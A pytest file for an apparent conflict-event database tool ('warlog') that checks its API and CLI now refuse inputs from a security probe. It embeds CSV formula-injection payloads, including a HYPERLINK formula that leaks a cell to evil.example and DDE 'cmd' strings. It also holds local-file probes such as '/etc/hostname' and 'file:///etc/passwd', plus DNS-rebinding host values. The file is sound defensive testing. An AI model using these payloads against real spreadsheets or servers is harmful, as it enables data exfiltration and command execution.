"""Issue 11: what a probe of the server and CLI got through, each refused now (one test per item of the issue).

Database cases run on SQLite and PostgreSQL (the db_url fixture). No test leaves the machine: DNS answers are faked
and every server is a local http.server. No spaCy model is loaded: events are written directly and linked.
"""

from __future__ import annotations

import csv
import io
import json
import socket
import threading
import warnings
from datetime import date
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpcore
import pytest
from typer.testing import CliRunner

warnings.filterwarnings("ignore", message=".*httpx2.*")

from fastapi.testclient import TestClient  # noqa: E402

from warlog.api import ServeConfig, create_app  # noqa: E402
from warlog.cli import app as cli  # noqa: E402
from warlog.csvout import BOM, safe_cell  # noqa: E402
from warlog.ingest import LOCAL_REFUSED, IngestError, read_sources  # noqa: E402
from warlog.link.run import link_store  # noqa: E402
from warlog.model import Evidence, Extraction, Mention, Place, Report  # noqa: E402
from warlog.store import Store  # noqa: E402
from warlog.store.query import event_detail  # noqa: E402
from warlog.store.review import create_token  # noqa: E402

runner = CliRunner()
ALEPPO = Place("Aleppo", 36.2021, 37.1343, 1, "Syria", "Aleppo", iso="SY", gazetteer_id="gn-170063")
EVIL_OUTLET = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
EVIL_EVIDENCE = "+cmd|' /C calc'!A0 an air strike on a market in Aleppo killed 12 people."
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _extraction(text: str, outlet: str, deaths: int = 12) -> Extraction:
    """One report with one mention whose evidence is the whole text."""
    day = date(2016, 9, 27)
    r = Report(text=text, outlet=outlet, published=day, title="t")
    m = Mention(
        report_id=r.id,
        event_date=day,
        event_type="Explosions/Remote violence",
        sub_event_type="Air/drone strike",
        disorder_type="Political violence",
        actor1="Military Forces of Syria (2000-)",
        actor2="Civilians (Syria)",
        place=ALEPPO,
        fatalities=deaths,
        evidence=[Evidence(text, 0, len(text))],
    )
    return Extraction(report=r, mentions=[m])


@pytest.fixture()
def env(db_url):
    """(client, analyst headers, store, event id) over one stored, linked event from a hostile outlet."""
    store = Store(db_url)
    store.save_extraction(_extraction(EVIL_EVIDENCE, EVIL_OUTLET))
    link_store(store)
    analyst = {"Authorization": "Bearer " + create_token(store, "alice", "analyst")}
    # nlp: a stand-in that is never called (every request here is refused before extraction)
    client = TestClient(create_app(ServeConfig(db_url=store.url), store=store, nlp=object()))
    (event_id,) = [e["id"] for e in client.get("/api/events").json()["items"]]
    yield client, analyst, store, event_id
    store.close()


# --- 1. local files through the API -----------------------------------------------------------------------------------


def test_the_api_never_reads_the_servers_files(env, tmp_path, monkeypatch):
    client, analyst, store, _ = env
    secret = tmp_path / "secret" / "notes.txt"
    secret.parent.mkdir()
    secret.write_text("Shelling killed 4 people in Saraqib. SECRET-ON-DISK", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    before = store.report_ids()
    for url in (str(secret), "secret/notes.txt", str(secret.parent), "secret", f"file://{secret}", "/etc/hostname"):
        res = client.post("/api/reports", json={"url": url}, headers=analyst)
        assert res.status_code == 422, (url, res.status_code, res.text)
        assert "http(s)" in res.json()["detail"]
        assert "SECRET" not in res.text
    assert store.report_ids() == before


def test_read_sources_reads_paths_only_with_the_local_files_capability(tmp_path):
    path = tmp_path / "r.txt"
    path.write_text("Shelling killed 4 people in Saraqib on Thursday.", encoding="utf-8")
    (refused,) = read_sources([str(path)])
    assert isinstance(refused, IngestError) and refused.reason == LOCAL_REFUSED
    (refused_dir,) = read_sources([tmp_path])
    assert isinstance(refused_dir, IngestError)
    (report,) = read_sources([str(path)], local_files=True)  # the CLI's capability
    assert isinstance(report, Report) and "Saraqib" in report.text


# --- 2. CSV formula injection -----------------------------------------------------------------------------------------


def _csv_rows(raw: bytes) -> list[dict[str, str]]:
    assert raw.startswith(BOM.encode()), "every CSV starts with the UTF-8 BOM"
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))


def _assert_no_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for cell in row.values():
            if cell.startswith(FORMULA):
                float(cell)  # only numbers may start so ("-3"); anything else would run as a formula


def test_csv_formula_cells_are_escaped_in_every_csv(env, tmp_path):
    client, analyst, store, event_id = env
    edit = {"fields": {"location": "@SUM(1+1)*cmd|' /C calc'!A0", "admin2": "-2+3", "actor1": "=1+2"}}
    assert client.patch(f"/api/events/{event_id}", json=edit, headers=analyst).status_code == 200

    api_rows = _csv_rows(client.get("/api/events.csv").content)
    out = tmp_path / "events.csv"
    assert runner.invoke(cli, ["export", "--db", store.url, "--format", "acled-csv", "-o", str(out)]).exit_code == 0
    export_rows = _csv_rows(out.read_bytes())
    listed = runner.invoke(cli, ["events", "--db", store.url, "--format", "csv"])
    assert listed.exit_code == 0
    events_rows = _csv_rows(listed.stdout_bytes)

    for rows in (api_rows, export_rows, events_rows):
        assert len(rows) == 1
        _assert_no_formula(rows)
        (row,) = rows
        assert row["source"] == "'" + EVIL_OUTLET
        assert row["notes"] == "'" + EVIL_EVIDENCE
        assert row["fatalities"] == "12"
    for (row,) in (api_rows, export_rows):  # the reviewed values (`warlog events` lists the machine's mentions)
        assert row["location"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
        assert row["admin2"] == "'-2+3" and row["actor1"] == "'=1+2"


def test_safe_cell_leaves_numbers_and_plain_text_alone():
    assert [safe_cell(v) for v in (-3, 2.5, "-3", "+1.5e3", "-0.25", "Aleppo", None)] == [
        -3,
        2.5,
        "-3",
        "+1.5e3",
        "-0.25",
        "Aleppo",
        "",
    ]
    assert [safe_cell(v) for v in ("=1+1", "+A1", "-A1", "@A1", "\tx", "\rx", "-", "-inf")] == [
        "'=1+1",
        "'+A1",
        "'-A1",
        "'@A1",
        "'\tx",
        "'\rx",
        "'-",
        "'-inf",
    ]


# --- 3. numbers that reached the database unchecked -------------------------------------------------------------------

BIG = "1" + "0" * 30
INT64_PAST = str(2**63)
QUERY_PROBES = [
    ("/api/events", {"min_fatalities": BIG}),
    ("/api/events", {"min_fatalities": INT64_PAST}),
    ("/api/events.csv", {"min_fatalities": INT64_PAST}),
    ("/api/events.geojson", {"min_fatalities": INT64_PAST}),
    ("/api/stats", {"min_fatalities": INT64_PAST}),
    ("/api/events", {"near": "inf,inf", "km": "5"}),
    ("/api/events", {"near": "nan,0"}),
    ("/api/events", {"near": "91,0"}),
    ("/api/events", {"near": "0,181"}),
    ("/api/events", {"near": "36,37", "km": "inf"}),
    ("/api/events", {"near": "36,37", "km": "nan"}),
    ("/api/events", {"near": "36,37", "km": "1e400"}),
    ("/api/events", {"bbox": "-181,0,10,10"}),
    ("/api/events", {"bbox": "0,nan,10,10"}),
    ("/api/events", {"bbox": "0,-91,10,10"}),
    ("/api/events", {"bbox": "0,20,10,10"}),
    ("/api/claims", {"page": "1000000000000000000"}),
    ("/api/events", {"page": "1000000000000000000"}),
    ("/api/events", {"page_size": BIG}),
    ("/api/events.geojson", {"limit": BIG}),
    ("/api/events", {"q": "\x00"}),
    ("/api/events", {"country": "Syria\x00"}),
    ("/api/claims", {"report_id": "\x00"}),
]


def test_out_of_range_query_numbers_and_nul_are_422_with_a_message(env):
    client, _, _, _ = env
    for path, params in QUERY_PROBES:
        res = client.get(path, params=params)
        assert res.status_code == 422, (path, params, res.status_code, res.text[:200])
        assert res.json()["detail"], (path, params)
    assert client.get("/api/events/e%00").status_code == 422


def test_out_of_range_edits_are_422_and_change_nothing(env):
    client, analyst, store, event_id = env
    before = event_detail(store.engine, event_id)
    raw_bodies = [
        '{"fields": {"latitude": 1' + "0" * 400 + "}}",  # 10^400 as a JSON integer
        '{"fields": {"latitude": 1e400}}',  # parses as infinity
        '{"fields": {"longitude": NaN}}',
        '{"fields": {"confidence": -Infinity}}',
        '{"fields": {"fatalities": 1e400}}',
        '{"fields": {"fatalities": 9223372036854775808}}',
        '{"fields": {"fatalities": 2147483648}}',  # over PostgreSQL's INTEGER
        '{"fields": {"injured": "1e400"}}',
        '{"fields": {"fatalities": 2.5}}',
        '{"fields": {"location": "Alep\\u0000po"}}',
        '{"fields": {"fatalities": 3}, "note": "a\\u0000b"}',
        '{"fields": {"fatalities": 3}, "note": "\\ud800"}',
    ]
    headers = {**analyst, "Content-Type": "application/json"}
    for body in raw_bodies:
        res = client.patch(f"/api/events/{event_id}", content=body, headers=headers)
        assert res.status_code == 422, (body[:60], res.status_code, res.text[:200])
        assert res.json()["detail"], body[:60]
    after = event_detail(store.engine, event_id)
    assert (after["fatalities"], after["latitude"], after["review_status"]) == (
        before["fatalities"],
        before["latitude"],
        before["review_status"],
    )


def test_text_the_database_cannot_hold_is_422_in_every_body(env):
    client, analyst, _, event_id = env
    headers = {**analyst, "Content-Type": "application/json"}
    probes = [
        ("post", f"/api/events/{event_id}/confirm", '{"note": "ok\\u0000"}'),
        ("post", f"/api/events/{event_id}/merge", '{"other_id": "e\\u0000"}'),
        ("post", f"/api/events/{event_id}/split", '{"mention_ids": ["m\\u0000"]}'),
        ("post", "/api/reports", '{"text": "Shelling killed 4.\\u0000"}'),
        ("post", "/api/reports", '{"text": "Shelling killed 4.", "outlet": "\\udc00"}'),
    ]
    for method, path, body in probes:
        res = client.request(method, path, content=body, headers=headers)
        assert res.status_code == 422, (path, body, res.status_code, res.text[:200])


# --- 4. tracebacks instead of errors (CLI) ----------------------------------------------------------------------------


def _one_line_error(result, *names: str) -> str:
    text = result.output
    assert result.exit_code == 2, (result.exit_code, text[-800:])
    assert "Traceback" not in text and result.exception is None or isinstance(result.exception, SystemExit)
    lines = [line for line in text.splitlines() if line.strip()]
    assert len(lines) == 1, text[-800:]
    for name in names:
        assert name in lines[0], (name, lines[0])
    return lines[0]


def test_db_that_is_a_folder_or_not_a_database_is_one_line(tmp_path):
    folder = tmp_path / "a-folder"
    folder.mkdir()
    not_db = tmp_path / "events.csv"
    not_db.write_text("a,b\n1,2\n", encoding="utf-8")
    report = tmp_path / "r.txt"
    report.write_text("Shelling killed 4 people in Saraqib.", encoding="utf-8")
    for db in (f"sqlite:///{folder}", str(folder)):
        for args in (["events"], ["ingest", str(report)], ["serve"], ["token", "create", "bob"], ["export"], ["link"]):
            line = _one_line_error(runner.invoke(cli, [*args, "--db", db]), str(folder))
            assert "folder" in line
    for args in (["events"], ["ingest", str(report)], ["token", "list"]):
        line = _one_line_error(runner.invoke(cli, [*args, "--db", str(not_db)]), str(not_db))
        assert "not a warlog" in line
    _one_line_error(runner.invoke(cli, ["backup", str(tmp_path / "copy.db"), "--db", str(folder)]), str(folder))
    assert not_db.read_text(encoding="utf-8") == "a,b\n1,2\n"  # the file is left as it was


def _read_only(url: str) -> str:
    """The same database opened read-only: SQLite's mode=ro URI, a read-only PostgreSQL session."""
    if url.startswith("sqlite:///"):
        return f"sqlite:///file:{url.removeprefix('sqlite:///')}?mode=ro&uri=true"
    return url.replace("options=", "options=-cdefault_transaction_read_only%3Don%20", 1)


def test_read_only_database_is_one_line_for_token_create_and_ingest(db_url, tmp_path):
    writable = Store(db_url)  # the schema exists; the read-only session cannot create it
    admin = {"Authorization": "Bearer " + create_token(writable, "root", "admin")}
    writable.close()
    ro = _read_only(db_url)
    report = tmp_path / "r.txt"
    report.write_text("Shelling killed 4 people in Saraqib on 3 May 2016.", encoding="utf-8")
    _one_line_error(runner.invoke(cli, ["token", "create", "bob", "--db", ro]), "cannot be written")
    result = runner.invoke(cli, ["ingest", str(report), "--published", "2016-05-04", "--db", ro])
    line = _one_line_error(result, "cannot be written")
    assert "stored" not in line  # no "0 stored ... 1 events" summary posing as success
    assert runner.invoke(cli, ["events", "--db", ro]).exit_code == 0  # reading a read-only database works
    served = Store(ro)
    client = TestClient(create_app(ServeConfig(db_url=ro), store=served))
    assert client.get("/api/events", headers=admin).status_code == 200
    res = client.post("/api/tokens", json={"name": "bob", "role": "analyst"}, headers=admin)
    assert res.status_code == 503 and "read-only" in res.json()["detail"]  # not a 500
    served.close()
    store = Store(db_url)
    assert store.report_ids() == set()
    store.close()


# --- 5. DNS rebinding -------------------------------------------------------------------------------------------------


def test_host_header_must_name_this_server(tmp_path):
    store = Store(str(tmp_path / "h.db"))
    local = TestClient(create_app(ServeConfig(db_url=store.url, allowed_hosts=()), store=store))
    for host in ("evil.example", "evil.example:8000", "127.0.0.1.evil.example", "localhost.evil.example"):
        res = local.get("/api/events", headers={"Host": host})
        assert res.status_code == 400 and "--allowed-host" in res.json()["detail"], host
    for host in ("127.0.0.1:8000", "localhost:8000", "[::1]:8000", "LOCALHOST", "app.localhost"):
        assert local.get("/api/events", headers={"Host": host}).status_code == 200, host
    team = TestClient(
        create_app(ServeConfig(db_url=store.url, host="0.0.0.0", allowed_hosts=(".example.org",)), store=store)
    )
    for host in ("example.org", "warlog.example.org:8000", "192.0.2.10:8000"):
        assert team.get("/api/me", headers={"Host": host}).status_code in (200, 401), host
    assert team.get("/api/me", headers={"Host": "example.org.evil.example"}).status_code == 400
    store.close()


# --- 6. webhook address pinned ----------------------------------------------------------------------------------------

PUBLIC_IP = "93.184.216.34"


class _Hook(BaseHTTPRequestHandler):
    def do_POST(self) -> None:  # noqa: N802 - http.server's naming
        self.server.received.append(json.loads(self.rfile.read(int(self.headers["content-length"]))))  # type: ignore[attr-defined]
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args) -> None:
        pass


def _hook_server() -> ThreadingHTTPServer:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Hook)
    server.received = []  # type: ignore[attr-defined]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def test_webhook_connects_to_the_checked_address_and_ignores_proxies(monkeypatch):
    from warlog.watch import post_webhook

    public, internal = _hook_server(), _hook_server()  # the hook as the world sees it; a service on loopback
    answers = [[PUBLIC_IP], ["127.0.0.1"]]  # a rebinding name: public for the check, loopback afterwards
    real_getaddrinfo = socket.getaddrinfo

    def fake_getaddrinfo(host, port, *args, **kwargs):
        if host != "hook.example":
            return real_getaddrinfo(host, port, *args, **kwargs)
        ips = answers.pop(0) if len(answers) > 1 else answers[0]
        return [(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_TCP, "", (ip, int(port))) for ip in ips]

    real_connect = httpcore.SyncBackend.connect_tcp

    def connect(self, host, port, *args, **kwargs):
        if host == "hook.example":  # an unpinned client: resolve again, as the OS would
            host = fake_getaddrinfo(host, port)[0][4][0]
        if host == PUBLIC_IP:
            return real_connect(self, "127.0.0.1", public.server_address[1], *args, **kwargs)
        if host == "127.0.0.1":
            return real_connect(self, "127.0.0.1", internal.server_address[1], *args, **kwargs)
        raise httpcore.ConnectError(f"test network: {host} unreachable")

    monkeypatch.setattr(socket, "getaddrinfo", fake_getaddrinfo)
    monkeypatch.setattr(httpcore.SyncBackend, "connect_tcp", connect)
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy", "NO_PROXY"):
        monkeypatch.delenv(name, raising=False)
    try:
        assert post_webhook("http://hook.example/alerts", {"event_id": "e1"}) == 204
        assert public.received == [{"event_id": "e1"}] and internal.received == []  # the checked address
        monkeypatch.setenv("HTTP_PROXY", "http://10.9.9.9:3128")  # a proxy would resolve the name itself
        answers[:] = [[PUBLIC_IP]]
        assert post_webhook("http://hook.example/alerts", {"event_id": "e2"}) == 204
        assert [a["event_id"] for a in public.received] == ["e1", "e2"]
        answers[:] = [["127.0.0.1"]]
        with pytest.raises(Exception, match="loopback"):
            post_webhook("http://hook.example/alerts", {"event_id": "e3"})  # resolving inside: refused
        assert internal.received == []
    finally:
        public.shutdown()
        internal.shutdown()


# --- 7. one limit, one answer -----------------------------------------------------------------------------------------


def test_report_text_limit_is_the_clis_and_chunked_bodies_get_413(env):
    from warlog.ingest import MAX_REPORT_CHARS

    client, analyst, store, _ = env
    before = store.report_ids()
    res = client.post("/api/reports", json={"text": "x " * (MAX_REPORT_CHARS // 2) + "y"}, headers=analyst)
    assert res.status_code == 422 and str(MAX_REPORT_CHARS) in res.text

    def chunks():
        for _ in range(30):
            yield b"x" * 100_000

    res = client.post("/api/reports", content=chunks(), headers={**analyst, "Content-Type": "application/json"})
    assert res.status_code == 413 and "too large" in res.json()["detail"]
    assert store.report_ids() == before


# --- 8. watch --once when every feed failed ---------------------------------------------------------------------------


def test_watch_once_fails_when_no_feed_could_be_read(tmp_path):
    feeds = tmp_path / "feeds.txt"
    feeds.write_text(f"http://127.0.0.1:9/feed.xml\n{tmp_path / 'missing.xml'}\n", encoding="utf-8")
    db = str(tmp_path / "w.db")
    alerts = str(tmp_path / "a.jsonl")
    result = runner.invoke(cli, ["watch", str(feeds), "--once", "--db", db, "--alerts", alerts])
    assert result.exit_code == 1, result.output
    assert "no feed could be read" in result.output
    good = tmp_path / "good.xml"
    good.write_text(
        '<?xml version="1.0"?><rss version="2.0"><channel><title>t</title><item><title>Strike</title>'
        "<description>Shelling killed 4 people in Saraqib on Thursday.</description></item></channel></rss>",
        "utf-8",
    )
    (known,) = read_sources([str(good)], local_files=True)
    store = Store(db)
    store.save_extraction(Extraction(report=known))  # already stored: the poll reads it and has nothing to extract
    store.close()
    feeds.write_text(f"http://127.0.0.1:9/feed.xml\n{good}\n", encoding="utf-8")
    result = runner.invoke(cli, ["watch", str(feeds), "--once", "--db", db, "--alerts", alerts])
    assert result.exit_code == 0, result.output  # one of two feeds read: not a failure
    assert "1 errors" in result.output


# --- 9. smaller -------------------------------------------------------------------------------------------------------


def test_ipv4_mapped_loopback_peer_reads_like_loopback(tmp_path):
    store = Store(str(tmp_path / "m.db"))
    app = create_app(ServeConfig(db_url=store.url), store=store)
    assert TestClient(app, client=("::ffff:127.0.0.1", 5000)).get("/api/events").status_code == 200
    assert TestClient(app, client=("::ffff:203.0.113.7", 5000)).get("/api/events").status_code == 401
    store.close()


# --- same class, elsewhere --------------------------------------------------------------------------------------------


def test_cli_numbers_and_paths_are_checked(tmp_path):
    db = str(tmp_path / "n.db")
    feeds = tmp_path / "feeds.txt"
    feeds.write_text("http://127.0.0.1:9/feed.xml\n", encoding="utf-8")
    for args in (
        ["events", "--near", "inf,inf"],
        ["events", "--near", "95,0"],
        ["events", "--near", "1,1", "--km", "-5"],
        ["events", "--limit", "1" + "0" * 30],
        ["events", "--limit", "-1"],
        ["serve", "--port", "70000"],
        ["watch", "feeds.txt", "--every", "9" * 400 + "d"],
        ["watch", "feeds.txt", "--rule", "fatalities>=1 bbox=0,0,inf,1"],
        ["watch", str(feeds), "--webhook", "file:///etc/passwd"],
        ["watch", str(feeds), "--alerts", str(tmp_path)],
        ["watch", str(tmp_path)],
    ):
        result = runner.invoke(cli, [*args, "--db", db])
        assert result.exit_code == 2, (args, result.exit_code, result.output[-400:])
        assert "Traceback" not in result.output
